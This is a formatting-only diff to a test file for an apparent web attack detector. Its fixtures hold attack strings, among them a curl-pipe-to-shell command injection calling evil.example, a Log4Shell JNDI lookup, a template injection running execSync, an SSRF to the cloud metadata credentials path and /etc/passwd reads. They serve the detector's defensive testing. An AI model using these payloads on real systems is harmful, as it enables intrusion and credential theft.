@@ -37,7 +37,10 @@ describe('a single request with an attack reaches HIGH, whatever place it stands
     ['traversal', { method: 'GET', url: '/files/..%252f..%252f..%252fetc%252fpasswd' }],
     ['cmdi', query('127.0.0.1; cat /etc/passwd')],
     ['cmdi', json({ host: '$(curl http://evil.example/x.sh | sh)' })],
-    ['ssti', query("{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}")],
+    [
+      'ssti',
+      query("{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}"),
+    ],
     ['ssrf', json({ avatar: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })],
     ['log4shell', { method: 'GET', url: '/', headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
     ['protopollution', json(JSON.parse('{"__proto__": {"isAdmin": true}}'))],
@@ -70,7 +73,10 @@ describe('its near neighbour does not', () => {
     ['a relative link', json({ text: 'See ../README.md and ./docs/setup.md for details.' })],
     ['a placeholder', json({ template: 'Hello {{name}}, your order {{order_id}} has shipped.' })],
     ['a shell variable', json({ note: 'Set ${HOME} or $PATH before you start.' })],
-    ['Markdown with code', json({ body: '## Fix\n\nUse `npm run build` and then:\n\n```js\nconst a = b => b + 1;\n```\n' })],
+    [
+      'Markdown with code',
+      json({ body: '## Fix\n\nUse `npm run build` and then:\n\n```js\nconst a = b => b + 1;\n```\n' }),
+    ],
     ['a bit of HTML', json({ bio: '<p>I like <b>bold</b> text and <a href="https://example.com">links</a>.</p>' })],
     ['a Windows path', json({ path: 'C:\\Users\\Maria\\Documents\\report.docx' })],
     ['many scripts', json({ name: '李小龙', city: 'Zürich', greeting: 'مرحبا', note: 'Привет, как дела?' })],
@@ -81,7 +87,8 @@ describe('its near neighbour does not', () => {
         method: 'GET',
         url: '/',
         headers: {
-          'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
+          'user-agent':
+            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
           accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
           'accept-language': 'en-US,en;q=0.9,de;q=0.8',
           cookie: 'theme=dark; _ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln',
@@ -119,7 +126,9 @@ describe('an attached server', () => {
     halting.write('GET / HTTP/1.1\r\nHost: x\r\n');
     const rest = setTimeout(() => halting.write('Connection: close\r\n\r\n'), 4_000);
 
-    const late = new Promise<void>((_, reject) => setTimeout(() => reject(new Error('no alert within 30 s')), 30_000).unref());
+    const late = new Promise<void>((_, reject) =>
+      setTimeout(() => reject(new Error('no alert within 30 s')), 30_000).unref(),
+    );
     try {
       await Promise.race([alerted, late]);
       expect(new Set(alerts.map(({ assessment }) => assessment.client.address))).toEqual(new Set(['127.0.0.66']));
